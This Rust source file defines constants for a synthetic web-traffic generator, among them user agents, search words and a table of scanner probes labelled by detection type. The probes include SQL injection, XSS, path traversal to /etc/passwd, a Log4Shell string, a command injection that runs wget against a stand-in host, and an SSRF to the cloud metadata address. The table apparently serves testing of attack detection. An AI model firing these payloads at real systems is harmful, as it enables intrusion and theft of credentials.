//! What the generated traffic is made of: user agents, pages, search words, attacks.
//!
//! Texts are written into JSON as they stand, so those with quotes or backslashes are escaped here.

/// Browsers, most frequent first.
pub const BROWSERS: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 16; Pixel 10) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36 Edg/143.0.0.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
];

/// The mobile app, which hundreds of users run behind one carrier's address.
pub const MOBILE_APPS: [&str; 3] = [
    "ShopApp/8.4.1 (iOS 19.1; iPhone17,3)",
    "ShopApp/8.4.1 (Android 16; Pixel 10)",
    "ShopApp/8.3.0 (Android 15; SM-S931B)",
];

/// Crawlers.
pub const CRAWLERS: [&str; 4] = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
];

/// Scanners.
pub const SCANNERS: [&str; 3] =
    ["sqlmap/1.9.11#stable (https://sqlmap.org)", "Nuclei/3.5.0", "Mozilla/5.0 zgrab/0.x"];

/// Clients of agents that speak the Model Context Protocol.
pub const AGENTS: [&str; 2] = ["mcp-client/1.9.0 node/22.11.0", "python-httpx/0.28.1"];

/// Clients of the GraphQL service.
pub const GRAPHQL_CLIENTS: [&str; 2] = ["apollo-ios/1.23.0", "Relay/20.1 react-native/0.82"];

/// What credential stuffing looks like to the server.
pub const STUFFERS: [&str; 2] = ["python-requests/2.32.5", "Go-http-client/2.0"];

/// Words people search for.
pub const WORDS: [&str; 12] = [
    "lamp",
    "desk",
    "walnut+table",
    "chair",
    "rug",
    "sofa",
    "bookshelf",
    "mirror",
    "kettle",
    "linen",
    "plant+pot",
    "wall+clock",
];

/// Languages of browsers.
pub const LANGUAGES: [&str; 5] = [
    "en-US,en;q=0.9",
    "de-DE,de;q=0.9,en;q=0.7",
    "fr-FR,fr;q=0.9",
    "en-GB,en;q=0.8",
    "es-ES,es;q=0.9",
];

/// Tools agents call, with an argument each.
pub const TOOLS: [(&str, &str); 5] = [
    ("search_products", "query"),
    ("get_order", "order_id"),
    ("list_customers", "segment"),
    ("create_refund", "order_id"),
    ("read_file", "path"),
];

/// GraphQL operations with their variable.
pub const OPERATIONS: [(&str, &str); 5] = [
    ("HomeFeed", "first"),
    ("ProductById", "id"),
    ("AddToBasket", "productId"),
    ("MyOrders", "first"),
    ("SearchProducts", "limit"),
];

/// An attack a scanner tries; path and query are raw, the payload is JSON text.
#[derive(Clone, Copy)]
pub struct Probe {
    /// Type of the detection; empty: nothing is detected, the path is only not there.
    pub kind: &'static str,
    /// Subtype of the detection.
    pub subtype: &'static str,
    /// Raw path.
    pub path: &'static str,
    /// Raw query.
    pub query: &'static str,
    /// Where it was found.
    pub point: &'static str,
    /// What was found.
    pub payload: &'static str,
}

/// What scanners try.
pub const PROBES: [Probe; 14] = [
    probe(
        "sqli",
        "union",
        "/products",
        "id=1%20UNION%20SELECT%20user,pass%20FROM%20users--",
        "$request.query.id",
        "1 UNION SELECT user,pass FROM users--",
    ),
    probe(
        "sqli",
        "boolean",
        "/search",
        "q=1%27%20OR%20%271%27=%271",
        "$request.query.q",
        "1' OR '1'='1",
    ),
    probe(
        "xss",
        "reflected",
        "/search",
        "q=%3Cscript%3Ealert(1)%3C/script%3E",
        "$request.query.q",
        "<script>alert(1)</script>",
    ),
    probe(
        "path-traversal",
        "",
        "/static/..%2f..%2f..%2fetc%2fpasswd",
        "",
        "$path",
        "../../../etc/passwd",
    ),
    probe(
        "rce",
        "log4shell",
        "/",
        "x=$%7Bjndi:ldap://198.51.100.9/a%7D",
        "$request.query.x",
        "${jndi:ldap://198.51.100.9/a}",
    ),
    probe(
        "rce",
        "command",
        "/cgi-bin/luci",
        "cmd=;wget%20http://198.51.100.9/x.sh",
        "$request.query.cmd",
        ";wget http://198.51.100.9/x.sh",
    ),
    probe(
        "ssrf",
        "",
        "/fetch",
        "url=http://169.254.169.254/latest/meta-data/",
        "$request.query.url",
        "http://169.254.169.254/latest/meta-data/",
    ),
    probe("", "", "/wp-login.php", "", "", ""),
    probe("", "", "/.git/config", "", "", ""),
    probe("", "", "/.env", "", "", ""),
    probe("", "", "/phpmyadmin/index.php", "", "", ""),
    probe("", "", "/actuator/env", "", "", ""),
    probe("", "", "/api/v1/debug/vars", "", "", ""),
    probe("", "", "/backup.zip", "", "", ""),
];

const fn probe(
    kind: &'static str,
    subtype: &'static str,
    path: &'static str,
    query: &'static str,
    point: &'static str,
    payload: &'static str,
) -> Probe {
    Probe { kind, subtype, path, query, point, payload }
}
